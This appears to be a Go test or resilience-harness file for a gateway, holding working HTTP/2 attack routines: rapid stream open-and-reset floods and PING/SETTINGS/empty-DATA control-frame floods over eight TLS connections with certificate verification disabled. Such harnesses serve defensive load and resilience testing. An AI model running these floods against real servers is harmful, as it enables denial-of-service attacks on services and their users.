//go:build hostile

package gateway

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Streams are opened and reset at once, more than any browser does.
func h2Resets(ctx context.Context, a *attackers) {
	head := headerBlock(steady)
	a.h2(ctx, func(framer *http2.Framer, stream uint32) error {
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true})
		if err != nil {
			return err
		}
		return framer.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// Frames that ask for an answer, or for nothing at all.
func h2ControlFrames(ctx context.Context, a *attackers) {
	head := headerBlock(steady)
	a.h2(ctx, func(framer *http2.Framer, stream uint32) error {
		if stream == 1 {
			return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
		}
		if err := framer.WritePing(false, [8]byte{1}); err != nil {
			return err
		}
		if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}); err != nil {
			return err
		}
		return framer.WriteData(1, false, nil)
	})
}

// h2 holds eight connections of HTTP/2, on each of which something is done five hundred times a second with the number of the next stream.
func (a *attackers) h2(ctx context.Context, do func(framer *http2.Framer, stream uint32) error) {
	a.held(ctx, 8, func() {
		raw, err := a.dial(ctx, a.Gateway+":443")
		if err != nil {
			return
		}
		_ = raw.SetDeadline(time.Now().Add(5 * time.Second))
		// Whom it talks to does not matter to an attacker.
		c := tls.Client(raw, &tls.Config{ServerName: steady, InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		defer c.Close()
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return
		}
		_ = raw.SetDeadline(time.Time{})
		go func() { _, _ = io.Copy(io.Discard, c) }()
		framer := http2.NewFramer(c, nil)
		if err := framer.WriteSettings(); err != nil {
			return
		}
		for stream := uint32(1); ctx.Err() == nil; stream += 2 {
			if err := do(framer, stream); err != nil {
				return
			}
			pause(ctx, 2*time.Millisecond)
		}
	})
}

// headerBlock is the head of a GET for a host.
func headerBlock(host string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: "/"}} {
		_ = encoder.WriteField(field) // to memory
	}
	return block.Bytes()
}
